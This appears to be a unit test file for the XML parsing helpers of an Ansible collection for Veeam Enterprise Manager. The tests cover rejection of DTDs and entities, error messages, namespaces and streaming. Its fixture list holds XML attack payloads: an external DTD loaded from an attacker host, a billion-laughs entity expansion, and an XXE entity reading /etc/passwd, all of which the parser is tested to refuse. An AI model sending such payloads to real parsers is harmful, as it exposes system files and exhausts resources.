# -*- coding: utf-8 -*-
# Copyright: (c) 2026, seedops
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import pytest
from lxml import etree

from ansible_collections.seedops.veeam_em.plugins.module_utils import _xml
from ansible_collections.seedops.veeam_em.plugins.module_utils._jobs import JOB_DETAILS_SCHEMA
from ansible_collections.seedops.veeam_em.plugins.module_utils._errors import VeeamEmFormatError
from ansible_collections.seedops.veeam_em.tests.unit.plugins.module_utils import em_xml

URL = "https://em.example:9398/api/jobs?format=Entity"

DOCTYPE_DOCUMENTS = [
    pytest.param(b'<?xml version="1.0"?>\n<!DOCTYPE Jobs SYSTEM "http://attacker.example/evil.dtd"><Jobs/>',
                 id="external-dtd"),
    pytest.param(b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
                 b"<Jobs><Job Name=\"&b;\"/></Jobs>", id="billion-laughs"),
    pytest.param(b'<!doctype Jobs [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Jobs>&xxe;</Jobs>',
                 id="lower-case-xxe"),
    pytest.param(b'<Jobs><!ENTITY x "y"></Jobs>', id="entity-alone"),
]


def stream(data, chunk_size, names=("Job",)):
    seen = []
    parser = _xml.ElementStream(URL, names, lambda element: seen.append(dict(element.attrib)))
    for start in range(0, len(data), chunk_size):
        parser.feed(data[start:start + chunk_size])
    parser.close()
    return seen


# -- refusing DTDs and entities ---------------------------------------------------------------------------
@pytest.mark.parametrize("data", DOCTYPE_DOCUMENTS)
def test_parse_document_refuses_doctype_and_entity_declarations(data):
    with pytest.raises(VeeamEmFormatError) as caught:
        _xml.parse_document(data, URL)
    assert URL in str(caught.value)
    assert "DOCTYPE or entity declaration" in str(caught.value)


@pytest.mark.parametrize("data", DOCTYPE_DOCUMENTS)
def test_try_parse_document_returns_none_for_doctype(data):
    assert _xml.try_parse_document(data) is None


@pytest.mark.parametrize("data", DOCTYPE_DOCUMENTS)
def test_element_stream_refuses_doctype_and_entity_declarations(data):
    with pytest.raises(VeeamEmFormatError) as caught:
        stream(data, 4096)
    assert "DOCTYPE or entity declaration" in str(caught.value)
    assert URL in str(caught.value)


@pytest.mark.parametrize("chunk_size", [1, 2, 3, 5, 8, 9, 16, 17])
def test_element_stream_refuses_doctype_split_across_small_chunks(chunk_size):
    # Chunked transfer encoding lets the server choose chunk sizes: "<!DOC" + "TYPE" must still be caught.
    data = b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">]><Jobs><Job Name="&a;"/></Jobs>'
    with pytest.raises(VeeamEmFormatError) as caught:
        stream(data, chunk_size)
    assert "DOCTYPE or entity declaration" in str(caught.value)


# -- malformed and empty bodies ---------------------------------------------------------------------------
def test_malformed_body_error_names_the_url_and_shows_the_start():
    with pytest.raises(VeeamEmFormatError) as caught:
        _xml.parse_document(b"<Job><Name>DB Backup</Job>", URL)
    message = str(caught.value)
    assert URL in message
    assert "not well-formed" in message
    assert "DB Backup" in message


def test_html_body_is_described_without_markup():
    with pytest.raises(VeeamEmFormatError) as caught:
        _xml.parse_document(b"<html><body><h1>Service Unavailable</h1><p>Try later<br></p></body></html>", URL)
    assert "Service Unavailable Try later" in str(caught.value)


@pytest.mark.parametrize("data", [b"", b"   \r\n\t ", None])
def test_empty_body_is_refused_with_the_url(data):
    with pytest.raises(VeeamEmFormatError) as caught:
        _xml.parse_document(data, URL)
    assert "empty body" in str(caught.value)
    assert URL in str(caught.value)


@pytest.mark.parametrize("data", [b"", b" \n "])
def test_element_stream_refuses_an_empty_body(data):
    with pytest.raises(VeeamEmFormatError) as caught:
        stream(data, 4)
    assert "empty body" in str(caught.value)
    assert URL in str(caught.value)


@pytest.mark.parametrize("data", [b"<Jobs><Job Name='a'/><Job Na", b"<Jobs><Job></Jobs>"])
def test_element_stream_refuses_a_truncated_or_malformed_body(data):
    with pytest.raises(VeeamEmFormatError) as caught:
        stream(data, 5)
    assert URL in str(caught.value)
    assert "not well-formed" in str(caught.value)


@pytest.mark.parametrize("data", [b"", b"not xml", b"<a><b></a>"])
def test_try_parse_document_never_raises(data):
    assert _xml.try_parse_document(data) is None


def test_parse_document_reads_bytes_with_an_encoding_declaration_and_non_ascii_text():
    data = ('<?xml version="1.0" encoding="utf-8"?>\n<Job xmlns="%s" Name="Sauvegarde générale – Zürich"/>'
            % em_xml.NAMESPACE).encode("utf-8")
    assert _xml.parse_document(data, URL).get("Name") == "Sauvegarde générale – Zürich"


def test_parse_document_keeps_escaped_characters():
    root = _xml.parse_document(b'<Job Name="R&amp;D &lt;main&gt; &quot;x&quot; &#39;y&#39; a&#x2F;b"/>', URL)
    assert root.get("Name") == "R&D <main> \"x\" 'y' a/b"


# -- matching on local names -----------------------------------------------------------------------------
JOB_VARIANTS = [
    pytest.param(
        '<Job xmlns="%s" Href="h" Type="Job" Name="n"><Links><Link Rel="Start" Href="s" Name="x"/>'
        '<Link Rel="Up" Type="BackupServerReference" Href="u" Name="srv"/></Links><JobType>Backup</JobType></Job>'
        % em_xml.NAMESPACE, id="default-namespace"),
    pytest.param(
        '<v:Job xmlns:v="%s" Name="n" Type="Job" Href="h"><v:Links><v:Link Name="x" Href="s" Rel="Start"/>'
        '<v:Link Name="srv" Href="u" Type="BackupServerReference" Rel="Up"/></v:Links>'
        "<v:JobType>Backup</v:JobType></v:Job>" % em_xml.NAMESPACE, id="prefixed-other-attribute-order"),
    pytest.param(
        '<Job Type="Job" Name="n" Href="h"><Links><Link Href="s" Rel="Start" Name="x"/>'
        '<Link Type="BackupServerReference" Rel="Up" Name="srv" Href="u"/></Links><JobType>Backup</JobType></Job>',
        id="no-namespace"),
]


@pytest.mark.parametrize("text", JOB_VARIANTS)
def test_links_and_children_match_on_local_name_whatever_the_namespace_and_attribute_order(text):
    element = etree.fromstring(text.encode())
    assert _xml.local_name(element) == "Job"
    assert _xml.child_text(element, "JobType") == "Backup"
    assert _xml.links(element) == [
        {"rel": "Start", "type": None, "href": "s", "name": "x"},
        {"rel": "Up", "type": "BackupServerReference", "href": "u", "name": "srv"},
    ]
    assert _xml.find_link(element, "Up", "BackupServerReference")["href"] == "u"
    assert _xml.find_link(element, "Up", "JobReference") is None
    assert _xml.find_link(element, "Start")["href"] == "s"


def test_links_are_only_the_elements_own_links():
    element = etree.fromstring(b"<Task><Result><Links><Link Rel='Related' Href='x'/></Links></Result></Task>")
    assert _xml.links(element) == []
    assert _xml.find_link(element, "Related") is None


def test_comments_and_processing_instructions_have_no_local_name():
    assert _xml.local_name(etree.Comment("c")) == ""
    assert _xml.local_name(etree.PI("target", "x")) == ""


def test_parser_drops_comments_and_processing_instructions():
    root = _xml.parse_document(b"<Job><!-- c --><?pi x?><Name>n<!-- c --></Name><Kind><?pi y?>k</Kind></Job>", URL)
    assert _xml.element_to_dict(root) == {"name": "n", "kind": "k"}


def test_element_stream_ignores_empty_chunks():
    parser = _xml.ElementStream(URL, ("Job",), lambda element: None)
    parser.feed(b"")
    with pytest.raises(VeeamEmFormatError, match="empty body"):
        parser.close()


def test_child_helpers():
    element = etree.fromstring(b"<S><State> Working </State><Empty/><Days>a</Days><Days>b</Days>"
                               b"<Deep><State>inner</State></Deep></S>")
    assert _xml.child_text(element, "State") == "Working"
    assert _xml.child_text(element, "Empty", "default") == "default"
    assert _xml.child_text(element, "Missing") is None
    assert [item.text for item in _xml.children(element, "Days")] == ["a", "b"]
    assert [item.text for item in _xml.descendants(element, "State")] == [" Working ", "inner"]
    assert _xml.child(element, "Missing") is None


# -- element_to_dict -------------------------------------------------------------------------------------
def test_element_to_dict_of_schedule_options_types_by_the_documented_schema():
    element = etree.fromstring(em_xml.SCHEDULE_OPTIONS.encode())
    assert _xml.element_to_dict(element, JOB_DETAILS_SCHEMA) == {
        "standart": {
            "retry_options": {"retry_times": 3, "retry_timeout": 10, "retry_specified": True},
            "wait_for_backup_completion": True,
            "backup_competition_waiting_period_min": 180,
            "options_daily": {
                "enabled": True,
                "kind": "Everyday",
                "days": ["Sunday", "Monday"],
                "time": "18:00:00.0000000+01:00",
                "time_offset_utc": "1",  # a TimeSpan in jobscheduleoptions.md, not a number
            },
            "options_monthly": {"enabled": False, "time": "22:00:00.0000000+01:00"},
            "options_daisy_chaining": {"enabled": False, "previous_job_uid": None},
        }
    }


def test_element_to_dict_drops_links_href_and_type_but_keeps_other_attributes():
    element = etree.fromstring(
        ('<ObjectInJob xmlns="%s" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" Type="ObjectInJob" '
         'Href="https://em/x" xsi:nil="false"><Links><Link Rel="Delete" Href="d"/></Links>'
         "<Name>sql01</Name><Order>0</Order></ObjectInJob>" % em_xml.NAMESPACE).encode())
    assert _xml.element_to_dict(element, JOB_DETAILS_SCHEMA) == {"nil": "false", "name": "sql01", "order": 0}


def test_element_to_dict_leaf_with_attributes_keeps_its_text_as_value():
    element = etree.fromstring(b'<R><Size Unit="GB">12</Size><Flag Enabled="true"/></R>')
    schema = _xml.Schema(booleans=("Enabled",), integers=("Size",))
    assert _xml.element_to_dict(element, schema) == {"size": {"unit": "GB", "value": 12}, "flag": {"enabled": True}}


def test_element_to_dict_never_converts_by_the_look_of_the_text():
    # Regression: a VM named "007" became 7, and any digits lost their leading zeros.
    element = etree.fromstring(b"<ObjectInJob><Name>007</Name><DisplayName>true</DisplayName><Order>3</Order>"
                               b"</ObjectInJob>")
    assert _xml.element_to_dict(element, JOB_DETAILS_SCHEMA) == {"name": "007", "display_name": "true", "order": 3}
    assert _xml.element_to_dict(element) == {"name": "007", "display_name": "true", "order": "3"}


def test_a_field_that_may_repeat_is_a_list_also_when_it_occurs_once():
    element = etree.fromstring(b'<OptionsDaily Enabled="true"><Days>Sunday</Days></OptionsDaily>')
    assert _xml.element_to_dict(element, JOB_DETAILS_SCHEMA) == {"enabled": True, "days": ["Sunday"]}


def test_element_to_dict_repeated_complex_children_become_a_list_of_dicts():
    element = etree.fromstring(em_xml.JOB_INFO.encode())
    includes = _xml.element_to_dict(element, JOB_DETAILS_SCHEMA)["backup_job_info"]["includes"]["object_in_job"]
    assert [item["name"] for item in includes] == ["sql01", "sql02"]
    assert includes[1] == {"object_in_job_id": "0493ea16-2222-4f00-9a0c-0c5e3a2b7d02",
                           "hierarchy_obj_ref": "urn:HyperV:Vm:d1444f74.sql02", "name": "sql02",
                           "display_name": "sql02", "order": 1}


@pytest.mark.parametrize("name, expected", [
    ("JobScheduleOptions", "job_schedule_options"),
    ("UID", "uid"),
    ("CreationTimeUTC", "creation_time_utc"),
    ("SessionId", "session_id"),
    ("FirstChanceExceptionMessage", "first_chance_exception_message"),
    ("TimeOffsetUtc", "time_offset_utc"),
    ("HTTPServer", "http_server"),
    ("Retry2Times", "retry2_times"),
    ("IsRetry", "is_retry"),
    ("already_snake", "already_snake"),
])
def test_snake_case(name, expected):
    assert _xml.snake_case(name) == expected


@pytest.mark.parametrize("text, as_bool, as_int", [
    ("true", True, None), ("false", False, None), ("1", None, 1), ("0", None, 0), ("yes", None, None),
    (None, None, None), ("", None, None),
])
def test_to_bool_and_to_int_never_confuse_bools_and_ints(text, as_bool, as_int):
    assert _xml.to_bool(text) is as_bool
    assert _xml.to_int(text) == as_int
    assert not isinstance(_xml.to_int(text), bool)


@pytest.mark.parametrize("uid, expected", [
    ("urn:veeam:Job:5658281f-625e-4627-89dd-d2a0c48be99e", "5658281f-625e-4627-89dd-d2a0c48be99e"),
    ("urn:veeam:BackupJobSession:1f038a6b-7968", "1f038a6b-7968"),
    ("plain", "plain"), ("", None), (None, None),
])
def test_id_from_uid(uid, expected):
    assert _xml.id_from_uid(uid) == expected


@pytest.mark.parametrize("href, expected", [
    ("https://em.example:9398/api/jobs/5658281f-625e?format=Entity", "5658281f-625e"),
    ("https://em.example:9398/api/backupServers/d1444f74", "d1444f74"),
    ("https://em.example:9398/api/tasks/task-5/", "task-5"),
    ("https://em.example:9398/api/backupSessions/1f03?format=Entity&x=/y", "1f03"),
    ("", None), (None, None),
])
def test_id_from_href(href, expected):
    assert _xml.id_from_href(href) == expected


@pytest.mark.parametrize("text, expected", [
    ("2020-02-01T17:00:00Z", "2020-02-01T17:00:00Z"),
    (" 2025-08-15T20:00:24.003406Z ", "2025-08-15T20:00:24.003406Z"),
    ("1753-01-01T00:00:00Z", None),
    ("0001-01-01T00:00:00", None),
    ("1900-01-01T00:00:00Z", None),
    ("", None), ("   ", None), (None, None),
])
def test_utc_time_turns_never_set_sentinels_into_none(text, expected):
    assert _xml.utc_time(text) == expected


# -- ElementStream ---------------------------------------------------------------------------------------
def test_element_stream_hands_over_each_wanted_element_in_order():
    jobs = [em_xml.job(name="Job %d" % number, guid="00000000-0000-4000-8000-%012d" % number)
            for number in range(5)]
    seen = stream(em_xml.job_list(jobs), 97)
    assert [item["Name"] for item in seen] == ["Job %d" % number for number in range(5)]


def test_element_stream_matches_local_names_with_a_prefixed_namespace():
    data = ('<e:Jobs xmlns:e="%s"><e:Job Name="a"/><e:Other Name="x"/><e:Job Name="b"/></e:Jobs>'
            % em_xml.NAMESPACE).encode()
    assert [item["Name"] for item in stream(data, 3)] == ["a", "b"]


def test_element_stream_frees_each_element_and_its_earlier_siblings():
    count = 300
    data = em_xml.job_list([em_xml.job(name="Job %d" % number, guid="00000000-0000-4000-8000-%012d" % number)
                            for number in range(count)])
    handed = []
    kept_siblings = []

    def on_element(element):
        handed.append(element)
        # What the tree still holds before this element: at most the (already emptied) previous one.
        earlier = list(element.itersiblings(preceding=True))
        kept_siblings.append(len(earlier))
        assert all(len(item) == 0 and not item.attrib for item in earlier)

    parser = _xml.ElementStream(URL, ("Job",), on_element)
    for start in range(0, len(data), 4096):
        parser.feed(data[start:start + 4096])
    parser.close()

    assert len(handed) == count
    assert max(kept_siblings) <= 1, "elements handed over earlier were still in the tree"
    root = handed[-1].getparent()
    assert len(root) == 1
    assert all(len(element) == 0 and not element.attrib for element in handed), "elements were not cleared"
